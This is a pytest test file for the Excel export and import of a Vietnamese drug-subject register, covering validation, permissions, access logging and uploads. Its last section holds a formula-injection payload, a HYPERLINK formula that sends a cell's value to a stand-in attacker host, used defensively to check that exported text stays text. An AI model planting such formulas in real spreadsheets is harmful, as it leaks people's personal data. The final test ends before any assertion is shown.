"""Excel export of the registers and import of persons and drug tests (subjects/excel.py and
its pages)."""

from __future__ import annotations

import datetime as dt
import io
import os
import time
import zipfile

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from subjects import excel, services
from subjects.excel.persons import PersonImport
from subjects.models import (
    AccessAction,
    AccessLog,
    DrugPoint,
    DrugTest,
    HouseholdCommitment,
    Person,
    PersonStatus,
    StatusKind,
)
from tests.factories import DrugTestFactory, PersonFactory


def read_sheet(data: bytes) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(data))
    return list(workbook.worksheets[0].iter_rows(values_only=True))


# ---------------------------------------------------------------- export


@pytest.mark.django_db
def test_export_has_vietnamese_headers_and_typed_values(tree):
    PersonFactory(
        full_name="Nguyễn Văn Ánh",
        birth_date=dt.date(1990, 3, 4),
        cccd="001090001234",
        village=tree.ta_leng,
        resident_since=dt.date(2015, 6, 1),
    )
    data = excel.export_xlsx(
        model=Person,
        queryset=Person.objects.all(),
        fields=["full_name", "birth_date", "sex", "cccd", "village", "residence_type", "presence"],
    )
    rows = read_sheet(data)
    assert rows[0] == (
        "Họ và tên",
        "Ngày sinh",
        "Giới tính",
        "Số CCCD",
        "Thôn, bản nơi cư trú",
        "Loại cư trú",
        "Tình trạng có mặt",
    )
    assert rows[1] == (
        "Nguyễn Văn Ánh",
        dt.datetime(1990, 3, 4),
        "Nam",
        "001090001234",
        "Bản Tả Lèng",
        "Thường trú",
        "Có mặt tại địa phương",
    )


@pytest.mark.django_db
def test_export_formats_dates_keeps_cccd_as_text_and_freezes_a_bold_header(tree):
    PersonFactory(cccd="000000000042", village=tree.ta_leng)
    data = excel.export_xlsx(model=Person, queryset=Person.objects.all())
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    birth = sheet.cell(row=2, column=headers.index("Ngày sinh") + 1)
    cccd = sheet.cell(row=2, column=headers.index("Số CCCD") + 1)
    assert birth.number_format == "DD/MM/YYYY"
    assert cccd.value == "000000000042"
    assert cccd.data_type == "s"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert "Ghi chú" in headers
    assert "Id" not in headers and "name_search" not in headers


@pytest.mark.django_db
def test_export_writes_numbers_as_numbers_and_booleans_in_vietnamese(tree):
    from subjects.models import CultivationIncident, Treatment
    from tests.factories import CultivationIncidentFactory, TreatmentFactory

    CultivationIncidentFactory(village=tree.ta_leng, area_m2=120, plant_count=35)
    TreatmentFactory(
        person=PersonFactory(village=tree.ta_leng), complies_with_rules=True, uses_other_drugs=None
    )
    cultivation = read_sheet(
        excel.export_xlsx(
            model=CultivationIncident,
            queryset=CultivationIncident.objects.all(),
            fields=["plant", "area_m2", "plant_count"],
        )
    )
    assert cultivation[1] == ("Cây thuốc phiện", 120, 35)
    treatment = read_sheet(
        excel.export_xlsx(
            model=Treatment,
            queryset=Treatment.objects.all(),
            fields=["kind", "complies_with_rules", "uses_other_drugs"],
        )
    )
    assert treatment[1] == ("Điều trị thay thế (Methadone / Buprenorphine)", "Có", None)


@pytest.mark.django_db
def test_export_runs_the_same_number_of_queries_for_few_and_many_rows(tree):
    def queries_for_export() -> int:
        with CaptureQueriesContext(connection) as captured:
            excel.export_xlsx(
                model=DrugTest,
                queryset=DrugTest.objects.all(),
                fields=["person", "tested_on", "result"],
            )
        return len(captured)

    DrugTestFactory(person=PersonFactory(village=tree.ta_leng))
    few = queries_for_export()
    for _ in range(30):
        DrugTestFactory(person=PersonFactory(village=tree.ho_sao))
    assert queries_for_export() == few


# ---------------------------------------------------------------- import helpers

PERSON_HEADERS = [
    "Họ và tên *",
    "Ngày sinh *",
    "Giới tính *",
    "Số CCCD",
    "Thôn, bản *",
    "Loại cư trú *",
    "Cư trú từ ngày *",
    "Tình trạng có mặt",
    "Diện quản lý",
    "Diện từ ngày",
    "Diện đến ngày",
]
TEST_HEADERS = [
    "Họ và tên",
    "Ngày sinh",
    "Số CCCD",
    "Thôn, bản",
    "Ngày xét nghiệm *",
    "Kết quả *",
    "Chất ma túy",
]


def xlsx(headers: list[str], rows: list[list], *, streamed: bool = False, epoch=None) -> io.BytesIO:
    """A workbook as Excel writes it (shared strings), or as streaming writers do (inline strings)."""
    workbook = Workbook(write_only=streamed)
    if epoch is not None:
        workbook.epoch = epoch
    sheet = workbook.create_sheet("Danh sách") if streamed else workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def person_row(name="Lò Văn Sáng", birth="04/03/1990", cccd="001090000001", village="Bản Tả Lèng", **extra):
    row = {
        "name": name,
        "birth": birth,
        "sex": "Nam",
        "cccd": cccd,
        "village": village,
        "residence": "Thường trú",
        "since": "01/01/2015",
        "presence": "",
        "status": "",
        "status_start": "",
        "status_end": "",
    }
    row.update(extra)
    return list(row.values())


def problems_by_cell(check) -> dict[tuple[int | None, str], str]:
    return {(p.row, p.column): p.message for p in check.problems}


CLEAN_PERSONS = [
    person_row(),
    person_row(
        "Giàng Thị Mai",
        dt.datetime(1995, 7, 20),
        "",
        "Hô Sáo",
        sex="Nữ",
        residence="Tạm trú",
        since=dt.datetime(2020, 5, 1),
        presence="Vắng mặt",
        status="Người nghiện ma túy",
        status_start="15/02/2024",
    ),
]


# ---------------------------------------------------------------- import of persons


@pytest.mark.django_db
def test_messy_file_is_refused_whole_with_every_problem_listed_and_nothing_written(tree, people):
    PersonFactory(full_name="Nguyễn Văn Cũ", birth_date=dt.date(1980, 1, 1), village=tree.ta_leng)
    PersonFactory(full_name="Người Có CCCD", cccd="001080000099", village=tree.ho_sao)
    tomorrow = dt.date.today() + dt.timedelta(days=1)
    upload = xlsx(
        PERSON_HEADERS,
        [
            person_row(),  # row 2: fine by itself
            person_row("Lò Văn Hai", cccd="12345678901"),  # 3: CCCD of 11 digits
            person_row("Lò Văn Ba", birth=tomorrow.strftime("%d/%m/%Y"), cccd=""),  # 4: future date
            person_row("Lò Văn Bốn", cccd="", village="Bản Không Có"),  # 5: unknown village
            person_row(),  # 6: same row as row 2
            person_row("nguyen van cu", birth="01/01/1980", cccd=""),  # 7: already in the register
            person_row("Lò Văn Bảy", cccd="001080000099"),  # 8: CCCD already in the register
            person_row("Lò Văn Tám", cccd="", village="Bản Co Muông"),  # 9: another commune's village
            person_row("", birth="31/02/1990", cccd=""),  # 10: no name, not a date
            person_row("Lò Văn Mười", cccd="", sex="Không rõ"),  # 11: unknown choice label
            person_row(  # 12: status ending before it starts
                "Lò Văn Mười Một",
                cccd="",
                status="Người nghiện",
                status_start="01/03/2024",
                status_end="01/01/2024",
            ),
        ],
    )
    persons_before = Person.objects.count()

    check = services.check_import(kind="persons", file=upload, user=people.commune_police)

    problems = problems_by_cell(check)
    assert not check.ok
    assert "12 chữ số" in problems[(3, "Số CCCD")]
    assert problems[(4, "Ngày sinh")] == "Ngày không được sau ngày hôm nay."  # the form's message
    assert "Bản Không Có" in problems[(5, "Thôn, bản")]
    assert "dòng 2" in problems[(6, "Số CCCD")]
    assert "dòng 2" in problems[(6, "Họ và tên")]
    assert problems[(7, "Họ và tên")] == "Đã có người cùng họ tên, ngày sinh ở thôn, bản này."
    assert "đã có trong sổ theo dõi" in problems[(8, "Số CCCD")]
    assert "Bản Co Muông" in problems[(9, "Thôn, bản")]
    assert problems[(10, "Họ và tên")] == "Thiếu giá trị bắt buộc."
    assert "không phải là ngày" in problems[(10, "Ngày sinh")]
    assert "Không rõ" in problems[(11, "Giới tính")] and "“Nam”" in problems[(11, "Giới tính")]
    assert "Người nghiện" in problems[(12, "Diện quản lý")]
    assert (2, "Họ và tên") not in problems and (2, "Số CCCD") not in problems
    with pytest.raises(excel.ImportRejected):
        services.apply_import(check=check, user=people.commune_police)
    assert Person.objects.count() == persons_before
    assert not AccessLog.objects.exists()


@pytest.mark.django_db
def test_end_of_status_before_its_start_is_a_problem_of_that_cell(tree, people):
    upload = xlsx(
        PERSON_HEADERS,
        [person_row(status="Người nghiện ma túy", status_start="01/03/2024", status_end="01/01/2024")],
    )
    check = services.check_import(kind="persons", file=upload, user=people.commune_police)
    assert problems_by_cell(check) == {(2, "Diện đến ngày"): "Ngày kết thúc không được trước ngày bắt đầu."}


@pytest.mark.django_db
def test_clean_file_imports_persons_with_their_status_history_and_an_access_log_entry(tree, people):
    check = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
    )
    assert check.ok, check.problems

    result = services.apply_import(check=check, user=people.commune_police)

    assert (result.created, result.statuses) == (2, 1)
    sang = Person.objects.get(cccd="001090000001")
    assert (sang.full_name, sang.birth_date, sang.village, sang.name_search) == (
        "Lò Văn Sáng",
        dt.date(1990, 3, 4),
        tree.ta_leng,
        "lo van sang",
    )
    mai = Person.objects.get(name_search="giang thi mai")
    assert (mai.cccd, mai.village, mai.residence_type, mai.presence) == (
        None,
        tree.ho_sao,
        "temporary",
        "absent",
    )
    status = mai.statuses.get()
    assert (status.kind, status.start_date, status.end_date) == (
        StatusKind.ADDICT,
        dt.date(2024, 2, 15),
        None,
    )
    assert mai.history.get().history_user == people.commune_police
    assert status.history.get().history_user == people.commune_police
    log = AccessLog.objects.get()
    assert (log.action, log.user, log.area) == (AccessAction.IMPORT, people.commune_police, tree.hoang_then)
    assert "2 dòng" in log.description
    assert "Sáng" not in log.description and "001090000001" not in log.description


@pytest.mark.django_db
def test_second_import_of_the_same_file_creates_no_duplicates(tree, people):
    first = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
    )
    services.apply_import(check=first, user=people.commune_police)

    again = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
    )

    assert not again.ok
    assert {(p.row, p.column) for p in again.problems} == {(2, "Số CCCD"), (2, "Họ và tên"), (3, "Họ và tên")}
    with pytest.raises(excel.ImportRejected):
        services.apply_import(check=again, user=people.commune_police)
    assert Person.objects.count() == 2


@pytest.mark.django_db
def test_register_changed_after_the_preview_rejects_the_whole_import(tree, people):
    check = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
    )
    PersonFactory(full_name="Người Khác", cccd="001090000001", village=tree.ho_sao)

    with pytest.raises(excel.ImportRejected) as rejected:
        services.apply_import(check=check, user=people.commune_police)

    assert [(p.row, p.column) for p in rejected.value.problems] == [(2, "Số CCCD")]
    assert Person.objects.count() == 1


@pytest.mark.django_db
def test_a_unique_constraint_race_is_reported_and_nothing_is_half_applied(tree, people, monkeypatch):
    check = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
    )
    # Another user's import commits the second person after the re-check inside the transaction
    # (simulated by a re-check that sees nothing) and before the insert.
    PersonFactory(full_name="Giàng Thị Mai", birth_date=dt.date(1995, 7, 20), village=tree.ho_sao)
    monkeypatch.setattr(PersonImport, "recheck", lambda self, rows: [])

    with pytest.raises(excel.ImportRejected) as rejected:
        services.apply_import(check=check, user=people.commune_police)

    assert "không dòng nào được nhập" in rejected.value.problems[0].message
    assert list(Person.objects.values_list("full_name", flat=True)) == ["Giàng Thị Mai"]
    assert not PersonStatus.objects.exists()


@pytest.mark.django_db
def test_outsider_police_cannot_import_into_another_commune(tree, people):
    check = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.other_police
    )
    assert {(p.row, p.column) for p in check.problems} == {(2, "Thôn, bản"), (3, "Thôn, bản")}
    assert "Xã Mường So" in check.problems[0].message
    with pytest.raises(excel.ImportRejected):
        services.apply_import(check=check, user=people.other_police)
    assert not Person.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("persona", ["commune_chair", "district_police", "province", "tanan_police"])
def test_only_the_communes_own_police_may_import_its_persons(tree, people, persona):
    user = getattr(people, persona)
    if persona == "tanan_police":
        check = services.check_import(kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=user)
        assert not check.ok
        return
    with pytest.raises(PermissionDenied):
        services.check_import(kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=user)


@pytest.mark.django_db
def test_a_check_cannot_be_applied_by_another_user(tree, people):
    check = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
    )
    with pytest.raises(PermissionDenied):
        services.apply_import(check=check, user=people.other_police)
    assert not Person.objects.exists()


@pytest.mark.django_db
def test_a_check_is_not_applied_once_the_user_no_longer_holds_the_village(tree, people):
    check = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
    )
    moved = type(people.commune_police).objects.get(pk=people.commune_police.pk)
    moved.area = tree.muong_so
    moved.save()

    with pytest.raises(excel.ImportRejected) as rejected:
        services.apply_import(check=check, user=moved)

    assert {(p.row, p.column) for p in rejected.value.problems} == {(2, "Thôn, bản"), (3, "Thôn, bản")}
    assert not Person.objects.exists()


@pytest.mark.django_db
def test_dates_of_a_1904_workbook_and_of_streamed_workbooks_are_read_right(tree, people):
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    for upload in (
        xlsx(PERSON_HEADERS, CLEAN_PERSONS, epoch=CALENDAR_MAC_1904),
        xlsx(PERSON_HEADERS, CLEAN_PERSONS, streamed=True),
    ):
        check = services.check_import(kind="persons", file=upload, user=people.commune_police)
        assert check.ok, check.problems
        assert [row.values["birth_date"] for row in check.rows] == [dt.date(1990, 3, 4), dt.date(1995, 7, 20)]
        assert check.rows[1].values["resident_since"] == dt.date(2020, 5, 1)


@pytest.mark.django_db
def test_a_date_serial_without_its_format_is_a_date_but_a_bare_year_is_not(tree, people):
    upload = xlsx(PERSON_HEADERS, [person_row(birth=32936), person_row("Lò Văn Hai", cccd="", birth=1990)])
    check = services.check_import(kind="persons", file=upload, user=people.commune_police)
    assert check.rows[0].values["birth_date"] == dt.date(1990, 3, 4)
    assert problems_by_cell(check) == {
        (3, "Ngày sinh"): "“1990” không phải là ngày (ghi theo dạng dd/mm/yyyy)."
    }


@pytest.mark.django_db
def test_cccd_typed_as_a_number_explains_the_lost_leading_zero(tree, people):
    check = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, [person_row(cccd=1090000001)]), user=people.commune_police
    )
    assert "số 0 ở đầu" in problems_by_cell(check)[(2, "Số CCCD")]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"not a spreadsheet", "chỉ nhận tệp Excel .xlsx"),
        (xlsx(["Cột lạ", "Cột khác"], [["a", "b"]]).getvalue(), "Không nhận ra dòng tiêu đề"),
        (xlsx(["Họ và tên", "Ngày sinh"], [["Lò Văn A", "01/01/1990"]]).getvalue(), "thiếu cột bắt buộc"),
        (xlsx(PERSON_HEADERS, []).getvalue(), "không có dòng dữ liệu"),
    ],
)
def test_a_file_that_is_not_an_import_is_refused_with_a_clear_message(tree, people, content, message):
    with pytest.raises(excel.ImportFileError, match=message):
        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)


@pytest.mark.django_db
def test_export_round_trip_re_imports_the_same_persons(tree, people):
    PersonFactory(
        full_name="Vàng A Chứ",
        birth_date=dt.date(1988, 12, 31),
        cccd="012088000123",
        village=tree.ho_sao,
        residence_type="temporary",
        resident_since=dt.date(2019, 4, 2),
        presence="in_rehab",
        address="Nhà số 5",
    )
    exported = excel.export_xlsx(model=Person, queryset=Person.objects.all())
    before = list(
        Person.objects.values(
            "full_name",
            "birth_date",
            "cccd",
            "village",
            "residence_type",
            "resident_since",
            "presence",
            "address",
            "sex",
        )
    )

    duplicate = services.check_import(kind="persons", file=io.BytesIO(exported), user=people.commune_police)
    assert {(p.row, p.column) for p in duplicate.problems} == {(2, "Số CCCD"), (2, "Họ và tên")}

    Person.objects.all().delete()
    check = services.check_import(kind="persons", file=io.BytesIO(exported), user=people.commune_police)
    assert check.ok, check.problems
    services.apply_import(check=check, user=people.commune_police)
    after = list(
        Person.objects.values(
            "full_name",
            "birth_date",
            "cccd",
            "village",
            "residence_type",
            "resident_since",
            "presence",
            "address",
            "sex",
        )
    )
    assert after == before


# ---------------------------------------------------------------- import of drug tests


@pytest.mark.django_db
def test_tests_are_matched_by_cccd_or_by_name_birth_date_and_village(tree, people):
    by_cccd = PersonFactory(full_name="Lò Văn Sáng", cccd="001090000001", village=tree.ta_leng)
    by_name = PersonFactory(full_name="Giàng Thị Mai", birth_date=dt.date(1995, 7, 20), village=tree.ho_sao)
    upload = xlsx(
        TEST_HEADERS,
        [
            ["", "", "001090000001", "", "10/05/2024", "Âm tính", ""],
            [
                "giang thi mai",
                "20/07/1995",
                "",
                "Bản Hô Sáo",
                dt.datetime(2024, 5, 11),
                "Dương tính",
                "Heroin",
            ],
        ],
    )

    check = services.check_import(kind="tests", file=upload, user=people.commune_police)
    assert check.ok, check.problems
    result = services.apply_import(check=check, user=people.commune_police)

    assert result.created == 2
    assert list(by_cccd.tests.values_list("tested_on", "result")) == [(dt.date(2024, 5, 10), "negative")]
    assert list(by_name.tests.values_list("tested_on", "result", "substance")) == [
        (dt.date(2024, 5, 11), "positive", "Heroin")
    ]
    assert by_name.tests.get().history.get().history_user == people.commune_police
    assert AccessLog.objects.get().action == AccessAction.IMPORT


@pytest.mark.django_db
def test_tests_of_unknown_or_outside_persons_and_repeated_tests_are_refused(tree, people):
    known = PersonFactory(full_name="Lò Văn Sáng", cccd="001090000001", village=tree.ta_leng)
    DrugTestFactory(person=known, tested_on=dt.date(2024, 5, 1))
    PersonFactory(full_name="Người Xã Khác", cccd="001090000002", village=tree.co_muong)
    upload = xlsx(
        TEST_HEADERS,
        [
            ["", "", "001090000001", "", "01/05/2024", "Âm tính", ""],  # 2: already recorded that day
            ["", "", "001090000002", "", "02/05/2024", "Âm tính", ""],  # 3: person of another commune
            ["Lò Văn Không", "01/01/1990", "", "Bản Tả Lèng", "02/05/2024", "Âm tính", ""],  # 4: nobody
            ["", "", "001090000001", "", "03/05/2024", "Âm tính", ""],  # 5: fine
            ["", "", "001090000001", "", "03/05/2024", "Âm tính", ""],  # 6: same as row 5
            ["", "", "", "", "03/05/2024", "Có", ""],  # 7: nobody named, unknown result
            ["Lò Văn Khác", "", "001090000001", "", "04/05/2024", "Âm tính", ""],  # 8: name does not match
        ],
    )
    check = services.check_import(kind="tests", file=upload, user=people.commune_police)
    problems = problems_by_cell(check)
    assert "đã có kết quả xét nghiệm" in problems[(2, "Ngày xét nghiệm")]
    assert "Không tìm thấy" in problems[(3, "Số CCCD")]
    assert "Không tìm thấy" in problems[(4, "Họ và tên")]
    assert "dòng 5" in problems[(6, "Ngày xét nghiệm")]
    assert "Cần số CCCD" in problems[(7, "Số CCCD")]
    assert "“Có”" in problems[(7, "Kết quả")]
    assert "không khớp" in problems[(8, "Họ và tên")]
    assert not [p for p in check.problems if p.row == 5]
    with pytest.raises(excel.ImportRejected):
        services.apply_import(check=check, user=people.commune_police)
    assert DrugTest.objects.count() == 1


# ---------------------------------------------------------------- the template


@pytest.mark.django_db
def test_template_has_the_header_dropdowns_instructions_and_the_users_villages(tree, people):
    workbook = load_workbook(io.BytesIO(excel.build_template("persons", user=people.commune_police)))
    data, lists, guide = workbook["Dữ liệu"], workbook["Danh mục"], workbook["Hướng dẫn"]
    headers = [cell.value for cell in data[1]]
    assert headers[:3] == ["Họ và tên *", "Ngày sinh *", "Giới tính *"]
    assert data.freeze_panes == "A2"
    drop_downs = {}
    for validation in data.data_validations.dataValidation:
        # "='Danh mục'!$A$2:$A$3" lists the cells of the "Danh mục" sheet offered in that column.
        first, last = validation.formula1.split("!")[1].replace("$", "").split(":")
        values = [cell.value for row in lists[f"{first}:{last}"] for cell in row]
        drop_downs[headers[data[str(validation.sqref).split(":")[0]].column - 1]] = values
    assert drop_downs["Thôn, bản *"] == ["Bản Hô Sáo", "Bản Tả Lèng"]
    assert drop_downs["Giới tính *"] == ["Nam", "Nữ"]
    assert drop_downs["Diện quản lý"][1] == "Người nghiện ma túy"
    assert data.cell(row=2, column=headers.index("Số CCCD") + 1).number_format == "@"
    guide_text = " ".join(str(c.value) for row in guide.iter_rows() for c in row if c.value)
    assert "toàn bộ tệp" in guide_text and "Bản Tả Lèng" in guide_text


@pytest.mark.django_db
def test_a_filled_in_template_imports(tree, people):
    workbook = load_workbook(io.BytesIO(excel.build_template("persons", user=people.commune_police)))
    sheet = workbook["Dữ liệu"]
    headers = [cell.value for cell in sheet[1]]
    values = {
        "Họ và tên *": "Lò Văn Sáng",
        "Ngày sinh *": dt.datetime(1990, 3, 4),
        "Giới tính *": "Nam",
        "Số CCCD": "001090000001",
        "Thôn, bản *": "Bản Tả Lèng",
        "Loại cư trú *": "Thường trú",
        "Cư trú từ ngày *": dt.datetime(2015, 1, 1),
    }
    for header, value in values.items():
        sheet.cell(row=2, column=headers.index(header) + 1, value=value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    check = services.check_import(kind="persons", file=buffer, user=people.commune_police)
    assert check.ok, check.problems
    assert check.row_count == 1


# ---------------------------------------------------------------- size


@pytest.mark.django_db
def test_ten_thousand_rows_import_in_one_go(tree, people):
    rows = [
        person_row(
            f"Người Thử {n}",
            birth=f"{1 + n % 28:02d}/{1 + n % 12:02d}/{1960 + n % 40}",
            cccd=f"0010{n:08d}",
            village="Bản Tả Lèng" if n % 2 else "Bản Hô Sáo",
            status="Người nghiện ma túy" if n % 10 == 0 else "",
            status_start="01/01/2024" if n % 10 == 0 else "",
        )
        for n in range(10_000)
    ]
    check = services.check_import(
        kind="persons", file=xlsx(PERSON_HEADERS, rows, streamed=True), user=people.commune_police
    )
    assert check.ok, check.problems[:5]

    with CaptureQueriesContext(connection) as captured:
        result = services.apply_import(check=check, user=people.commune_police)

    assert (result.created, result.statuses) == (10_000, 1_000)
    assert Person.objects.count() == 10_000
    assert Person.history.count() == 10_000
    assert Person.objects.filter(name_search="nguoi thu 9999").exists()
    # Batched writes: the query count follows the batches (SQLite's are small), not the rows.
    assert len(captured) < result.created / 20


# ---------------------------------------------------------------- the pages


@pytest.fixture
def uploads(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path / "imports"


def upload_file(client, content: bytes, kind: str = "persons", name: str = "danh-sach.xlsx"):
    return client.post(
        reverse("subjects:import_start"),
        {"kind": kind, "file": SimpleUploadedFile(name, content)},
    )


@pytest.mark.django_db
def test_messy_upload_lists_every_problem_by_row_and_column_and_keeps_nothing(tree, people, login, uploads):
    client = login(people.commune_police)
    content = xlsx(PERSON_HEADERS, [person_row(), person_row(cccd="123"), person_row(village="Bản Co Muông")])

    response = upload_file(client, content.getvalue())

    assert response.status_code == 200
    problems = response.context["check"].problems
    assert {(p.row, p.column) for p in problems} >= {(3, "Số CCCD"), (3, "Họ và tên"), (4, "Thôn, bản")}
    html = response.content.decode()
    assert "Tệp chưa được nhập." in html and "Số CCCD phải gồm đúng 12 chữ số." in html
    assert "Xác nhận nhập" not in html
    assert not Person.objects.exists()
    assert not uploads.exists() or not list(uploads.iterdir())


@pytest.mark.django_db
def test_clean_upload_is_previewed_then_imported_on_confirm_and_the_file_deleted(
    tree, people, login, uploads
):
    client = login(people.commune_police)

    preview = upload_file(client, xlsx(PERSON_HEADERS, CLEAN_PERSONS).getvalue())

    assert preview.status_code == 200
    html = preview.content.decode()
    assert "Xác nhận nhập 2 dòng" in html and "Giàng Thị Mai" in html
    assert "001090000001" not in html  # CCCD masked in the preview list
    assert not Person.objects.exists()
    token = preview.context["token"]
    assert [p.name for p in uploads.iterdir()] == [f"{token}.xlsx"]

    confirmed = client.post(reverse("subjects:import_confirm"), {"token": token})

    assert confirmed.status_code == 302
    assert confirmed.url == reverse("subjects:import_done")
    assert Person.objects.count() == 2
    assert not list(uploads.iterdir())
    done = client.get(confirmed.url)
    assert "Đã thêm <strong>2</strong> đối tượng" in done.content.decode()
    log = AccessLog.objects.get(action=AccessAction.IMPORT)
    assert log.ip_address == "127.0.0.1"
    # The file's CCCD numbers were looked up at the preview and again when written, each logged
    # without the numbers.
    lookups = AccessLog.objects.filter(object_type="cccd_lookup")
    assert lookups.count() == 2 and not any("001090000001" in (row.description or "") for row in lookups)


@pytest.mark.django_db
def test_preview_and_confirm_run_the_same_number_of_queries_for_few_and_many_rows(
    tree, people, login, uploads
):
    client = login(people.commune_police)

    def queries_for(rows: int) -> tuple[int, int]:
        content = xlsx(
            PERSON_HEADERS,
            [
                person_row(f"Người Thử {rows} {n}", cccd=f"0020{rows:03d}{n:05d}", village="Bản Hô Sáo")
                for n in range(rows)
            ],
        ).getvalue()
        with CaptureQueriesContext(connection) as preview:
            token = upload_file(client, content).context["token"]
        with CaptureQueriesContext(connection) as confirm:
            client.post(reverse("subjects:import_confirm"), {"token": token})
        return len(preview), len(confirm)

    # 40 rows still fit one insert batch on SQLite (999 parameters); bigger imports add a query
    # per batch of rows, never one per row.
    assert queries_for(3) == queries_for(40)
    assert Person.objects.count() == 43


@pytest.mark.django_db
def test_confirm_twice_or_with_a_foreign_token_writes_nothing_more(tree, people, login, uploads):
    client = login(people.commune_police)
    token = upload_file(client, xlsx(PERSON_HEADERS, CLEAN_PERSONS).getvalue()).context["token"]

    wrong = client.post(reverse("subjects:import_confirm"), {"token": "0" * 32}, follow=True)
    assert "đã hết hạn hoặc đã được xử lý" in wrong.content.decode()
    assert not Person.objects.exists()

    client.post(reverse("subjects:import_confirm"), {"token": token})
    again = client.post(reverse("subjects:import_confirm"), {"token": token}, follow=True)
    assert "đã hết hạn hoặc đã được xử lý" in again.content.decode()
    assert Person.objects.count() == 2


@pytest.mark.django_db
def test_a_register_change_before_confirm_shows_the_problem_and_writes_nothing(tree, people, login, uploads):
    client = login(people.commune_police)
    token = upload_file(client, xlsx(PERSON_HEADERS, CLEAN_PERSONS).getvalue()).context["token"]
    PersonFactory(full_name="Người Khác", cccd="001090000001", village=tree.ho_sao)

    response = client.post(reverse("subjects:import_confirm"), {"token": token})

    assert response.status_code == 200
    assert "Số CCCD này đã có trong sổ theo dõi." in response.content.decode()
    assert Person.objects.count() == 1
    assert not list(uploads.iterdir())


@pytest.mark.django_db
def test_cancel_deletes_the_waiting_upload(tree, people, login, uploads):
    client = login(people.commune_police)
    upload_file(client, xlsx(PERSON_HEADERS, CLEAN_PERSONS).getvalue())
    client.post(reverse("subjects:import_cancel"))
    assert not list(uploads.iterdir())
    assert not Person.objects.exists()


@pytest.mark.django_db
def test_uploads_left_waiting_past_their_expiry_are_deleted(tree, people, login, uploads):
    uploads.mkdir(parents=True)
    stale, fresh = uploads / "old.xlsx", uploads / "new.xlsx"
    stale.write_bytes(b"x")
    fresh.write_bytes(b"x")
    three_hours_ago = time.time() - 3 * 3600
    os.utime(stale, (three_hours_ago, three_hours_ago))
    login(people.commune_police).get(reverse("subjects:import_start"))
    assert [p.name for p in uploads.iterdir()] == ["new.xlsx"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("danh-sach.xls", b"old excel", "Chỉ nhận tệp Excel .xlsx"),
        ("danh-sach.xlsx", b"not a zip", "chỉ nhận tệp Excel .xlsx"),
        ("danh-sach.xlsx", b"x" * (5 * 1024 * 1024 + 1), "Tệp quá lớn"),
        ("danh-sach.xlsx", xlsx(["A", "B"], [["1", "2"]]).getvalue(), "Không nhận ra dòng tiêu đề"),
    ],
)
def test_a_file_that_is_not_an_import_gets_the_form_again_with_a_vietnamese_error(
    tree, people, login, uploads, name, content, message
):
    response = upload_file(login(people.commune_police), content, name=name)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert response.context["form"].errors["file"]
    assert not uploads.exists() or not list(uploads.iterdir())


@pytest.mark.django_db
def test_commune_police_downloads_a_template_listing_their_villages(tree, people, login):
    response = login(people.commune_police).get(reverse("subjects:import_template") + "?loai=tests")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="mau-nhap-xet-nghiem.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    assert [c.value for c in workbook["Dữ liệu"][1]][4:6] == ["Ngày xét nghiệm *", "Kết quả *"]
    listed = {cell.value for row in workbook["Danh mục"].iter_rows() for cell in row}
    assert {"Bản Tả Lèng", "Bản Hô Sáo"} <= listed
    assert "Bản Co Muông" not in listed


@pytest.mark.django_db
@pytest.mark.parametrize(
    "persona", ["commune_chair", "district_police", "district_chair", "province", "labour"]
)
def test_only_commune_police_may_open_the_import_pages(tree, people, login, uploads, persona):
    client = login(getattr(people, persona))
    assert client.get(reverse("subjects:import_start")).status_code == 403
    assert client.get(reverse("subjects:import_template")).status_code == 403
    assert upload_file(client, xlsx(PERSON_HEADERS, CLEAN_PERSONS).getvalue()).status_code == 403
    assert client.post(reverse("subjects:import_confirm"), {"token": "x"}).status_code == 403
    assert not Person.objects.exists()


@pytest.mark.django_db
def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get(reverse("subjects:import_start"))
    assert response.status_code == 302 and reverse("login") in response.url


# ---------------------------------------------------------------- formula injection (issue 12 #4)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'


@pytest.mark.django_db
@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_exported_text_that_could_start_a_formula_stays_text(tree, text):
    PersonFactory(full_name="Lò Văn Sáng", address=text, village=tree.ta_leng)
    data = excel.export_xlsx(model=Person, queryset=Person.objects.all(), fields=["full_name", "address"])
